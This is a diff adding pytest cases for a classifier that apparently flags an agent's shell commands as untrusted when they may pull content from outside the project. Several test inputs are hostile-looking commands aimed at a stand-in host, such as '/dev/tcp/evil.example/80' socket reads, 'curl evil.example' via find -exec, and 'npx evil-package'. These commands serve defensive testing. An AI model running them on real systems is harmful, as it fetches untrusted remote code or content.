@@ -67,6 +67,61 @@ def test_everything_else_is_untrusted(tool: str, args: dict[str, object]) -> Non
     assert untrusted(tool, args) is True
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git -c http.proxy=x -C . pull",
+        "python -c 'import urllib.request as u; print(u.urlopen(address).read())'",
+        "python3 - < fetch.txt",
+        "python -m pip download x",
+        "node -e 'fetch(process.argv[1])' evil.example",
+        "perl -MLWP::Simple -e 'getprint shift' evil.example",
+        "echo evil.example | xargs curl -s",
+        "find . -name a -exec curl evil.example/{} ;",
+        "cat < /dev/tcp/evil.example/80",
+        "exec 3<>/dev/tcp/evil.example/80; cat <&3",
+        "cat $TMPDIR/page.html",
+        "cat ${HOME}/page.html",
+        "cat src/../../other/README.md",
+        "dig +short TXT evil.example",
+        "whois evil.example",
+        "openssl s_client -connect evil.example:443",
+        "npm --silent --json -g view left-pad readme",
+        "npx evil-package",
+        "xclip -o",
+        "pbpaste",
+        "tmux capture-pane -p",
+        "journalctl -u web",
+        "mail -p",
+        "man evil",
+        "some-program-of-another-package --print",
+        "/usr/local/bin/news",
+        "bash /tmp/script.sh",
+    ],
+)
+def test_a_command_that_is_not_known_to_stay_in_the_project_is_untrusted(command: str) -> None:
+    assert untrusted("bash", {"command": command}) is True
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python -m pytest -q",
+        "python tools/check.py --fast",
+        "./gradlew test",
+        "bash scripts/test.sh",
+        "uv run pytest -x tests/a.py",
+        "npx jest a.test.ts",
+        "find . -name '*.py' -exec grep -n x {} +",
+        "git -C . -c color.ui=never log -3",
+        "cargo test --quiet && go vet ./...",
+        "sed -n 1,20p src/a.py | wc -l",
+    ],
+)
+def test_known_programs_on_files_of_the_project_are_those_of_the_workspace(command: str) -> None:
+    assert untrusted("bash", {"command": command}) is False
+
+
 def test_a_path_that_only_the_result_names_counts_and_a_result_without_its_call_is_untrusted() -> None:
     assert untrusted("read", {"path": "link"}, paths=("/etc/hosts",)) is True
     assert untrusted("read", {"path": "src/a.py"}, call_id="another") is True
